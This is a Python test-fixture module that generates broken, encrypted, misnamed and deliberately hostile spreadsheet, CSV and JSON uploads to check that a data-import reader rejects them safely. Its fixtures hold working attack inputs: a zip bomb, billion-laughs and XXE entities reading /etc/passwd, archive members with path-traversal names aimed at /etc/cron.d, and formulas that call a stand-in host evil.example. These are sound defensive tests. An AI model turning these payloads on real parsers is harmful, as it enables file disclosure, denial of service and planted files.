"""Files that are broken, locked, renamed, or made to do harm. None may crash a reader, and none may be half read."""

from __future__ import annotations

import codecs
import io
import struct
import warnings
import zipfile
from pathlib import Path

from tests.imports import files
from tests.imports.corpus import case
from tests.imports.corpus.reading import (
    AUGUST,
    FIGURES,
    HEADER,
    JULY,
    ONLY_JULY,
    SHEET,
    TABLE,
    rows_at,
    sheet_of,
    table_of,
    text,
)

MILLION = 1_000_000
ROW = (
    '<c r="A2" t="inlineStr"><is><t>规模以上工业总产值</t></is></c>',
    '<c r="B2" t="inlineStr"><is><t>2023年1—7月</t></is></c>',
)


def figure_row(cell: str) -> str:
    """A sheet with the header 指标, 时期, 数值 and a row for July whose further cells are given."""
    return files.sheet_xml(*ROW, cell)


# Bombs


@case("zip_bomb.xlsx", refused="解压后超过 400 MB")
def _zip_bomb(path: Path) -> None:
    """More than 400 MB of blanks in half a megabyte, said openly in the archive."""
    files.raw_workbook(path, files.sheet_xml())
    with (
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("xl/media.xml", "w") as part,
    ):
        for _number in range(420):
            part.write(b" " * MILLION)


@case("lying_size.xlsx", refused="已损坏或不完整")
def _lying_size(path: Path) -> None:
    """The archive says 100 bytes where there are five million."""
    filler = f'<sst xmlns="{files.MAIN}">{" " * 5 * MILLION}</sst>'
    files.raw_workbook(path, figure_row('<c r="C2"><v>254.1</v></c>'), shared_strings=filler)
    content = path.read_bytes()
    path.write_bytes(content.replace(struct.pack("<I", len(filler)), struct.pack("<I", 100)))


@case("entities.xlsx", refused="XML 实体定义")
def _entities(path: Path) -> None:
    """A billion laughs in a cell."""
    levels = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    doctype = f'<!DOCTYPE x [<!ENTITY a0 "哈">{levels}]>'
    files.raw_workbook(path, files.sheet_xml(*ROW, '<c r="C2"><v>&a9;</v></c>', before=doctype))


@case("entities.ods", refused="XML 实体定义")
def _entities_ods(path: Path) -> None:
    """An entity that would read a file of the server."""
    content = files.ods_bytes(table_of(files.ods_row(*HEADER), files.ods_row("&x;")))
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            part = old.read(name).decode()
            new.writestr(name, part.replace("?>", '?><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'))
    path.write_bytes(target.getvalue())


@case("one_cell_of_200_mb.xlsx", refused="有一处内容超过 800 万字")
def _huge_cell(path: Path) -> None:
    """A text of 200 million characters in one cell, compressed to 200 kB."""
    files.raw_workbook(path, figure_row(f'<c r="C2" t="inlineStr"><is><t>{"9" * 200 * MILLION}</t></is></c>'))


@case("one_cell_of_200_mb.csv", refused="第2行有一个单元格超过 100 万字")
def _huge_cell_csv(path: Path) -> None:
    """The same as text; the upload's own limit comes first on the page."""
    with open(path, "w", encoding="utf-8") as file:
        file.write("指标,时期,数值\n规模以上工业总产值,2023年1—7月,")
        for _number in range(200):
            file.write("9" * MILLION)


@case("million_columns.csv", refused="第1行有 1000000 列，超过 1000 列的上限")
def _million_columns(path: Path) -> None:
    """A header of a million columns."""
    path.write_text(",".join(["指标"] * MILLION), encoding="utf-8")


@case("million_columns.ods", refused="第2行的内容到第 1001 列，超过 1000 列的上限")
def _million_columns_ods(path: Path) -> None:
    """One cell, said to stand there a million times."""
    many = '<table:table-cell office:value-type="float" office:value="1" table:number-columns-repeated="1000000"/>'
    path.write_bytes(files.ods_bytes(table_of(files.ods_row(*HEADER), files.ods_row(many))))


@case("far_cell.xlsx", refused="工作表“数据”第1048576行的内容到第 16384 列，超过 1000 列的上限")
def _far_cell(path: Path) -> None:
    """A figure in the last cell that a sheet can have."""
    sheet = figure_row('<c r="C2"><v>254.1</v></c>')
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    files.raw_workbook(path, sheet.replace("</sheetData>", far))


@case("far_blank.xlsx", rows=rows_at("数据", 2), figures=ONLY_JULY)
def _far_blank(path: Path) -> None:
    """The last cell of the sheet is formatted, but empty: harmless."""
    book = sheet_of(HEADER, JULY)
    book.active["XFD1048576"].number_format = "0.0"
    book.save(path)


@case("million_repeated_rows.ods", refused="第2行的内容重复到第 2000001 行")
def _million_repeated_rows(path: Path) -> None:
    """One row, said to stand there two million times."""
    row = files.ods_row(*JULY, attributes=' table:number-rows-repeated="2000000"')
    path.write_bytes(files.ods_bytes(table_of(files.ods_row(*HEADER), row)))


@case("deep.json", refused="嵌套超过 20 层")
def _deep(path: Path) -> None:
    """A hundred thousand lists in one another."""
    path.write_text("[" * 100_000, encoding="utf-8")


@case("million_keys.json", refused="超过 1000 个的上限")
def _million_keys(path: Path) -> None:
    """Every record has a field of its own."""
    path.write_text("[" + ",".join(f'{{"f{number}": 1}}' for number in range(10_000)) + "]", encoding="utf-8")


@case("many_members.xlsx", refused="2006 个内部文件，超过 2000 个")
def _many_members(path: Path) -> None:
    """Two thousand files inside a workbook."""
    files.raw_workbook(path, files.sheet_xml())
    with zipfile.ZipFile(path, "a") as archive:
        for number in range(2000):
            archive.writestr(f"xl/m{number}", "")


# Numbers that are none


@case(
    "huge_exponent.xlsx",
    refused="不是有限的数",
    place=("数据", 2, "C"),
)
def _huge_exponent(path: Path) -> None:
    """1e400 is infinite for a computer."""
    files.raw_workbook(path, figure_row('<c r="C2"><v>1e400</v></c>'))


@case("no_number.xlsx", refused="不是有限的数", place=("数据", 2, "C"))
def _no_number(path: Path) -> None:
    """NaN in the place of a number."""
    files.raw_workbook(path, figure_row('<c r="C2"><v>NaN</v></c>'))


@case("nan.json", refused="JSON 里有 NaN，它不是数")
def _nan(path: Path) -> None:
    """NaN, which is no JSON but what many programs write."""
    path.write_text('[{"指标": "规模以上工业总产值", "时期": "2023年1—7月", "数值": NaN}]', encoding="utf-8")


@case("infinity.json", refused="JSON 里有 -Infinity，它不是数")
def _infinity(path: Path) -> None:
    """The same for infinity."""
    path.write_text('[{"指标": "规模以上工业总产值", "时期": "2023年1—7月", "数值": -Infinity}]', encoding="utf-8")


@case("huge_exponent.json", rows=[("", 1, ("规模以上工业总产值", "2023年1—7月", "1e400"))], refused="1e400")
def _huge_exponent_json(path: Path) -> None:
    """Digits stay as written, so that the figure's own check names them."""
    path.write_text('[{"指标": "规模以上工业总产值", "时期": "2023年1—7月", "数值": 1e400}]', encoding="utf-8")


@case(
    "external_link.xlsx",
    rows=(("数据", 1, ("指标", "时期", "数值")), ("数据", 2, ("规模以上工业总产值", "2023年1—7月", "254.1"))),
    figures=(("industrial_output", "220106", "2023-07.ytd", "254.1", None),),
)
def _external_link(path: Path) -> None:
    """A formula that fetches from another file: the stored result counts, nothing is fetched."""
    files.raw_workbook(path, figure_row("<c r=\"C2\"><f>'\\\\evil.example\\[x.xlsx]Sheet1'!A1</f><v>254.1</v></c>"))


@case("link_not_calculated.xlsx", refused="是公式，但文件里没有计算结果", place=("数据", 2, "C"))
def _link_not_calculated(path: Path) -> None:
    """The same without a stored result."""
    files.raw_workbook(path, figure_row('<c r="C2"><f>WEBSERVICE("http://evil.example")</f></c>'))


# Archives that are not what they seem


@case("path_names.xlsx", rows=SHEET, figures=FIGURES)
def _path_names(path: Path) -> None:
    """Members whose names lead out of the archive; nothing is ever unpacked by name."""
    sheet_of(HEADER, JULY, AUGUST).save(path)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("../../../../etc/cron.d/x", "x")
        archive.writestr("/etc/passwd", "x")


@case("two_sheets_of_one_name.xlsx", refused="已损坏或不完整")
def _two_members(path: Path) -> None:
    """Two members of one name: which of them counts depends on the program."""
    files.raw_workbook(path, figure_row('<c r="C2"><v>254.1</v></c>'))
    with warnings.catch_warnings(), zipfile.ZipFile(path, "a") as archive:
        warnings.simplefilter("ignore")  # Python warns of the name
        archive.writestr("xl/worksheets/sheet1.xml", figure_row('<c r="C2"><v>999</v></c>'))


@case("truncated.xlsx", refused="已损坏或不完整")
def _truncated(path: Path) -> None:
    """An upload that broke off."""
    sheet_of(HEADER, JULY, AUGUST).save(path)
    path.write_bytes(path.read_bytes()[:-200])


@case("truncated.xls", refused="已损坏或不完整")
def _truncated_xls(path: Path) -> None:
    """The same for an old workbook."""
    path.write_bytes(files.Xls(HEADER, JULY, AUGUST).bytes()[:3000])


@case("truncated.csv", refused="第3行有不是 UTF-8 的字节")
def _truncated_csv(path: Path) -> None:
    """UTF-8 that ends within a character."""
    path.write_bytes(text(HEADER, JULY).encode() + "规模以上工业总".encode()[:-1])


@case("no_shared_strings.xlsx", refused="已损坏或不完整")
def _no_shared_strings(path: Path) -> None:
    """Cells point at texts that are not there."""
    files.raw_workbook(path, figure_row('<c r="C2" t="s"><v>7</v></c>'))


@case("same_cell_twice.xlsx", refused="已损坏或不完整")
def _same_cell_twice(path: Path) -> None:
    """One cell says two things."""
    files.raw_workbook(path, figure_row('<c r="C2"><v>1</v></c><c r="C2"><v>254.1</v></c>'))


@case("lying_dimension.xlsx", rows=SHEET, figures=FIGURES)
def _lying_dimension(path: Path) -> None:
    """The sheet says that it is one cell; readers that believe it lose rows."""
    sheet_of(HEADER, JULY, AUGUST).save(path)
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    sheet = members["xl/worksheets/sheet1.xml"]
    assert b'ref="A1:E3"' in sheet
    members["xl/worksheets/sheet1.xml"] = sheet.replace(b'ref="A1:E3"', b'ref="A1"')
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)


# Locked


@case("password.xlsx", refused="工作簿加了密码")
def _password(path: Path) -> None:
    """What Excel and WPS write when a password is set: the workbook, encrypted, in an old container."""
    path.write_bytes(
        files.ole_bytes(EncryptionInfo=b"\x04\0\x04\0@\0\0\0<encryption/>", EncryptedPackage=b"\x17" * 5000)
    )


@case("password.xls", refused="工作簿加了密码")
def _password_xls(path: Path) -> None:
    """An old workbook with a password."""
    book = files.Xls(HEADER, JULY)
    book.globals = [struct.pack("<2H", 0x002F, 6) + struct.pack("<3H", 0, 0x1234, 0x5678)]
    path.write_bytes(book.bytes())


@case("password.ods", refused="工作簿加了密码")
def _password_ods(path: Path) -> None:
    """An encrypted OpenDocument workbook: its manifest says so."""
    manifest = '<file-entry full-path="content.xml"><encryption-data checksum="x"/></file-entry>'
    path.write_bytes(files.ods_bytes("", manifest=manifest))


@case("zip_password.xlsx", refused="工作簿加了密码")
def _zip_password(path: Path) -> None:
    """The archive itself is locked."""
    sheet_of(HEADER, JULY).save(path)
    content = bytearray(path.read_bytes())
    place = content.find(b"PK\x01\x02")
    while place >= 0:
        content[place + 8] |= 1
        place = content.find(b"PK\x01\x02", place + 4)
    path.write_bytes(bytes(content))


# Renamed


@case("web_page.xls", refused="内容却是网页或 XML 文件")
def _web_page(path: Path) -> None:
    """What many systems call an export to Excel."""
    path.write_text(
        "<html><meta charset=utf-8><table><tr><td>指标<td>数值<tr><td>gdp<td>1</table></html>", encoding="utf-8"
    )


@case("program.xlsx", refused="内容却是Windows 程序（exe）")
def _program(path: Path) -> None:
    """A program."""
    path.write_bytes(b"MZ\x90\0" + bytes(200))


@case("text.xls", refused="内容却不是工作簿")
def _text(path: Path) -> None:
    """Text with tabs under the name of a workbook."""
    path.write_text(text(HEADER, JULY, delimiter="\t"), encoding="utf-8")


@case("new_workbook.xls", refused="内容却是xlsx 工作簿。请把扩展名改为 .xlsx 后再上传")
def _new_workbook(path: Path) -> None:
    """A workbook of today under the old name."""
    sheet_of(HEADER, JULY).save(path.with_suffix(".tmp"))
    path.with_suffix(".tmp").rename(path)


@case("old_workbook.xlsx", refused="内容却是旧版 Excel 工作簿（xls）。请把扩展名改为 .xls 后再上传")
def _old_workbook(path: Path) -> None:
    """The other way round."""
    path.write_bytes(files.Xls(HEADER, JULY).bytes())


@case("excel95.xls", refused="这是 Excel 95 或更早的工作簿")
def _excel95(path: Path) -> None:
    """A workbook older than 1997."""
    path.write_bytes(files.ole_bytes(Book=files.Xls(HEADER, JULY).stream()))


@case("document.xls", refused="内容却是旧版 Word 文档（doc）")
def _document(path: Path) -> None:
    """A document of Word."""
    path.write_bytes(files.ole_bytes(WordDocument=b"\xec\xa5"))


@case("document.xlsx", refused="内容却是Word 文档（docx）")
def _document_xlsx(path: Path) -> None:
    """A document of today."""
    path.write_bytes(files.zip_bytes(word__document_xml="<x/>"))


@case("binary_workbook.xlsx", refused="内容却是xlsb 工作簿")
def _binary_workbook(path: Path) -> None:
    """The binary form of a workbook."""
    path.write_bytes(files.zip_bytes(xl__workbook_bin="x"))


@case("workbook.csv", refused="内容却是xlsx 工作簿。请把扩展名改为 .xlsx 后再上传")
def _workbook_csv(path: Path) -> None:
    """A workbook under the name of a text."""
    sheet_of(HEADER, JULY).save(path.with_suffix(".tmp"))
    path.with_suffix(".tmp").rename(path)


# Texts that are none


@case("zero_bytes.csv", refused="第3行含有二进制数据（零字节）")
def _zero_bytes(path: Path) -> None:
    """A zero byte in the second figure."""
    path.write_bytes(TABLE.encode().replace(b"291.3", b"291\0.3"))


@case("utf32.csv", refused="文件的编码是 UTF-32")
def _utf32(path: Path) -> None:
    """An encoding that no office program writes."""
    path.write_bytes(codecs.BOM_UTF32_LE + TABLE.encode("utf-32-le"))


@case("no_encoding.csv", refused="文件的文字编码无法识别：第2行")
def _no_encoding(path: Path) -> None:
    """Bytes that are neither UTF-8 nor GB18030."""
    path.write_bytes(b"indicator,value\r\n\xff\xff,1\r\n")


@case("quotes_not_closed.csv", refused="第3行的双引号不成对")
def _quotes_not_closed(path: Path) -> None:
    """A quote that swallows the rest of the file."""
    path.write_text('指标,说明\r\ngdp,好\r\ngdp,"没有结尾\r\ngdp,1\r\n', encoding="utf-8")


@case("quotes_misplaced.csv", refused="第2行的双引号不成对或位置不对")
def _quotes_misplaced(path: Path) -> None:
    """Text behind a closing quote."""
    path.write_text('指标,说明\r\n"gdp"x,1\r\n', encoding="utf-8")


@case("same_key_twice.json", refused="“数值”出现了不止一次")
def _same_key_twice(path: Path) -> None:
    """One record says two things."""
    path.write_text('[{"指标": "gdp", "数值": 1, "数值": 2}]', encoding="utf-8")


@case("cut.json", refused="不是有效的 JSON：第 2 行第 1 个字符附近写法有误")
def _cut(path: Path) -> None:
    """JSON that breaks off."""
    path.write_text('[{"指标": "gdp"},\n', encoding="utf-8")


@case("control_characters.csv", refused="含有看不见的控制字符或乱码", place=("", 2, "C"))
def _control_characters(path: Path) -> None:
    """Characters that nobody sees."""
    path.write_text("指标,时期,数值\r\n规模以上工业总产值,2023年1—7月,25\x014.1\r\n", encoding="utf-8")


# Nothing there


@case("empty.csv", refused="文件是空的（0 字节）")
def _empty(path: Path) -> None:
    """No byte at all."""
    path.write_bytes(b"")


@case("blank.csv", refused="没有数据行", rows=())
def _blank(path: Path) -> None:
    """Blank lines and delimiters only."""
    path.write_text("\r\n \r\n,,\r\n", encoding="utf-8")


@case("blank.xlsx", refused="没有数据行", rows=())
def _blank_xlsx(path: Path) -> None:
    """A new, empty workbook."""
    sheet_of().save(path)


@case("only_header.csv", refused="没有数据行", rows=[("", 1, HEADER)])
def _only_header(path: Path) -> None:
    """A header, and no row below it."""
    path.write_text(text(HEADER), encoding="utf-8")


@case("only_hidden.xlsx", refused="看得见的工作表都没有数据", rows=())
def _only_hidden(path: Path) -> None:
    """All that there is stands in a hidden sheet."""
    book = sheet_of()
    hidden = book.create_sheet("底稿")
    hidden.append(HEADER)
    hidden.append(JULY)
    hidden.sheet_state = "hidden"
    book.save(path)


@case("no_records.json", refused="JSON 的记录列表是空的")
def _no_records(path: Path) -> None:
    """A list without records."""
    path.write_text('{"figures": []}', encoding="utf-8")
